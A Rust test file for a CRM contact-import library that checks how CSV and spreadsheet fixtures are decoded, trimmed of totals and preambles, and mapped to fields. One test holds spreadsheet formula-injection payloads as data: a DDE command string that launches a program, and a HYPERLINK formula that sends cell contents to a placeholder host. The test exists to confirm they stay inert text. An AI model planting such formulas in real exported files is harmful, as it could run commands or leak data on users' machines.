//! Files of real and synthetic systems beside the project, with what they must be seen to be.

use super::common::{fixture, load, mapped, slots};
use crate::{Mapping, ProblemKind, Quoting, ReadError, ReadOptions, SkipReason, SystemId, recognise};

fn pairs(expected: &[(&str, &str)]) -> Vec<(String, String)> {
    expected.iter().map(|(header, slot)| ((*header).to_owned(), (*slot).to_owned())).collect()
}

#[test]
fn an_account_file_of_the_salesforce_data_loader() {
    let Some(path) = fixture("fixtures/crm/salesforce/accountData_first60.csv") else { return };
    let (seen, all) = load(&path);
    let system = seen.system.clone().unwrap();
    assert_eq!((system.system, system.object.as_str()), (SystemId::Salesforce, "account"));
    assert_eq!((seen.headers.len(), seen.quoting), (38, Some(Quoting::Always)));
    assert_eq!((all.rows.len(), all.problems.len(), all.skipped.len()), (60, 0, 0));
    assert_eq!(all.rows[0].1[0], "001x0000002xLCVAA2");
    let expected = [
        ("ID", "source_key"),
        ("ISDELETED", "ignore"),
        ("MASTERRECORDID", "ignore"),
        ("NAME", "company"),
        ("PARENTID", "ignore"),
        ("BILLINGSTREET", "street"),
        ("BILLINGCITY", "city"),
        ("BILLINGSTATE", "region"),
        ("BILLINGPOSTALCODE", "postcode"),
        ("BILLINGCOUNTRY", "country"),
        ("PHONE", "phone"),
        ("FAX", "fax"),
        ("WEBSITE", "website"),
        ("DESCRIPTION", "notes"),
        ("OWNERID", "owner"),
        ("CREATEDDATE", "created_at"),
        ("CREATEDBYID", "ignore"),
        ("LASTMODIFIEDDATE", "modified_at"),
        ("LASTMODIFIEDBYID", "modified_by"),
        ("SYSTEMMODSTAMP", "ignore"),
        ("LASTACTIVITYDATE", "ignore"),
    ];
    assert_eq!(mapped(&seen), pairs(&expected));
}

#[test]
fn a_spanish_file_with_a_total_and_a_spoilt_telephone() {
    let Some(path) = fixture("fixtures/crm/csv-traps/synthetic_es_semicolon_cp1252.csv") else { return };
    let (seen, all) = load(&path);
    assert_eq!((seen.encoding.as_deref(), seen.delimiter), (Some("windows-1252"), Some(';')));
    let expected =
        ["given_name", "surname", "tax_id", "phone", "postcode", "region", "custom:Importe", "created_at"];
    assert_eq!(slots(&seen), expected);
    assert_eq!(all.rows.len(), 2);
    let first = [
        "Mª José",
        "Núñez de la Peña",
        "12345678Z",
        "6,12346E+08",
        "8001",
        "Barcelona",
        "1.234,50 €",
        "03/04/2024",
    ];
    assert_eq!(all.cells(0), first, "a postcode without its zero is kept as it came");
    assert_eq!(all.problems, [(2, Some(3), ProblemKind::LostDigits)]);
    let total = ["", "TOTAL", "", "", "", "", "1.279,50 €", ""].map(str::to_owned).to_vec();
    assert_eq!(all.skipped, [(4, SkipReason::Total, total)]);
}

#[test]
fn every_csv_trap_is_read_without_loss() {
    type Expected<'a> = (&'a str, &'a str, bool, char, u32, &'a [&'a str]);
    // File, encoding, byte-order mark, delimiter, header row, and the last record.
    let expected: [Expected<'_>; 9] = [
        ("csvkit_blanks.csv", "UTF-8", false, ',', 1, &["", "NA", "N/A", "NONE", "NULL", "."]),
        ("csvkit_test_date_format.csv", "UTF-8", false, ',', 1, &["31/12/2012"]),
        ("csvkit_test_extra_header.csv", "UTF-8", false, ',', 1, &["1", "2", "3", ""]),
        ("csvkit_test_header_newline.csv", "UTF-8", false, ',', 1, &["d", "e", "f"]),
        ("csvkit_test_latin1.csv", "windows-1252", false, ',', 1, &["4", "5", "©"]),
        ("csvkit_test_utf16_little.csv", "UTF-16LE", true, ',', 1, &["4", "5", "ʤ"]),
        ("csvkit_test_utf8_bom.csv", "UTF-8", true, ',', 1, &["4", "5", "ʤ"]),
        ("synthetic_mojibake_utf8_as_cp1252.csv", "UTF-8", false, ';', 1, &["MÂª JosÃ©", "NÃºÃ±ez PeÃ±a"]),
        ("synthetic_sep_directive.csv", "UTF-8", true, ';', 1, &["Mª José", "+34612345678"]),
    ];
    for (name, encoding, bom, delimiter, header, last) in expected {
        let Some(path) = fixture(&format!("fixtures/crm/csv-traps/{name}")) else { return };
        let (seen, all) = load(&path);
        assert_eq!(seen.encoding.as_deref(), Some(encoding), "{name}");
        assert_eq!((seen.bom, seen.delimiter, seen.header_row), (bom, Some(delimiter), header), "{name}");
        assert_eq!(all.cells(all.rows.len() - 1), last, "{name}");
    }
}

#[test]
fn formulas_are_text() {
    let Some(path) = fixture("fixtures/crm/csv-traps/synthetic_formula_injection.csv") else { return };
    let (seen, all) = load(&path);
    assert_eq!(slots(&seen), ["full_name", "email", "phone"]);
    assert_eq!(all.cells(0)[0], "=cmd|' /C calc'!A0");
    assert_eq!(all.cells(3), ["\t=1+1", "d@example.com", "=\"0612345678\""]);
    assert_eq!(all.cells(4)[0], "=HYPERLINK(\"http://example.com?x=\"&A1;\"clic\")");
}

#[test]
fn every_spreadsheet_trap_is_read_as_a_person_sees_it() {
    let trap = |name: &str| fixture(&format!("fixtures/crm/spreadsheet-traps/calamine_{name}.xlsx"));
    let (Some(date), Some(date_1904), Some(empty), Some(title), Some(merged), Some(escaped)) = (
        trap("date"),
        trap("date_1904"),
        trap("empty_sheet"),
        trap("header-row"),
        trap("merge_cells"),
        trap("has_x000D_"),
    ) else {
        return;
    };
    for path in [date, date_1904] {
        let (_, all) = load(&path);
        assert_eq!(all.cells(0), ["2021-01-01", "15"], "both calendars say the same day");
    }
    assert_eq!(recognise(&empty, &ReadOptions::default()), Err(ReadError::Empty));
    let (seen, all) = load(&title);
    assert_eq!((seen.header_row, all.skipped[0].1), (9, SkipReason::Preamble));
    assert_eq!(seen.headers, ["Columns", "Column A", "Column B", "Column C"]);
    assert_eq!(all.rows, [(10, ["put data here", "1", "2", "3"].map(str::to_owned).to_vec())]);
    let (seen, _) = load(&merged);
    assert_eq!(seen.headers[2], "Not Merged");
    let (seen, _) = load(&escaped);
    assert_eq!(seen.headers, ["ABC\r\nDEF"], "_x000D_ is a line end");
}

#[test]
fn labelled_lists_are_mapped_without_help() {
    let cases: &[(&str, &[&str])] = &[
        (
            "febrl3",
            &[
                "source_key",
                "given_name",
                "surname",
                "street_number",
                "street",
                "street.2",
                "city",
                "postcode",
                "region",
                "birth_date",
                "tax_id",
            ],
        ),
        ("splink_fake_1000", &["source_key", "given_name", "surname", "birth_date", "city", "email"]),
        ("restaurants_fz", &["source_key", "company", "address", "city", "phone", "custom:type"]),
        (
            "foreigners_pl_15k",
            &["source_key", "given_name", "middle_name", "surname", "birth_date", "city", "country"],
        ),
        (
            "pseudopeople_noisy",
            &[
                "source_key",
                "given_name",
                "middle_name",
                "surname",
                "custom:age",
                "birth_date",
                "street_number",
                "street",
                "unit",
                "city",
                "region",
                "postcode",
                "gender",
                "custom:race_ethnicity",
            ],
        ),
        (
            "dupehell_contacts_medium",
            &["source_key", "given_name", "surname", "email", "phone", "company", "social", "city"],
        ),
    ];
    for (name, expected) in cases {
        let Some(path) = fixture(&format!("truth/{name}/records.csv")) else { return };
        let seen = recognise(&path, &ReadOptions::default()).unwrap();
        assert_eq!(slots(&seen), *expected, "{name}");
        assert_eq!(Mapping::guess(&seen).columns.len(), seen.headers.len());
    }
}

#[test]
fn lists_of_many_columns_are_mapped_where_it_matters() {
    let cases: &[(&str, &[(&str, &str)])] = &[
        (
            "chicago_early_childhood",
            &[
                ("Site name", "company"),
                ("Address", "address"),
                ("Zip", "postcode"),
                ("Phone", "phone"),
                ("source", "ignore"),
            ],
        ),
        (
            "senzing_truthset",
            &[
                ("PRIMARY_NAME_FULL", "full_name"),
                ("PRIMARY_NAME_ORG", "company"),
                ("PRIMARY_NAME_LAST", "surname"),
                ("PRIMARY_NAME_FIRST", "given_name"),
                ("DATE_OF_BIRTH", "birth_date"),
                ("SSN_NUMBER", "tax_id"),
                ("EMAIL_ADDRESS", "email"),
                ("ADDR_FULL", "address"),
                ("ADDR_POSTAL_CODE", "postcode"),
                ("PHONE_NUMBER", "phone"),
            ],
        ),
        (
            "cdc_recordlinker",
            &[
                ("FIRST", "given_name"),
                ("LAST", "surname"),
                ("ADDRESS", "address"),
                ("SSN", "tax_id"),
                ("ZIP", "postcode"),
            ],
        ),
    ];
    for (name, expected) in cases {
        let Some(path) = fixture(&format!("truth/{name}/records.csv")) else { return };
        let found = mapped(&recognise(&path, &ReadOptions::default()).unwrap());
        for (header, slot) in *expected {
            let pair = ((*header).to_owned(), (*slot).to_owned());
            assert!(found.contains(&pair), "{name}: {header} should be {slot}, in {found:?}");
        }
    }
}
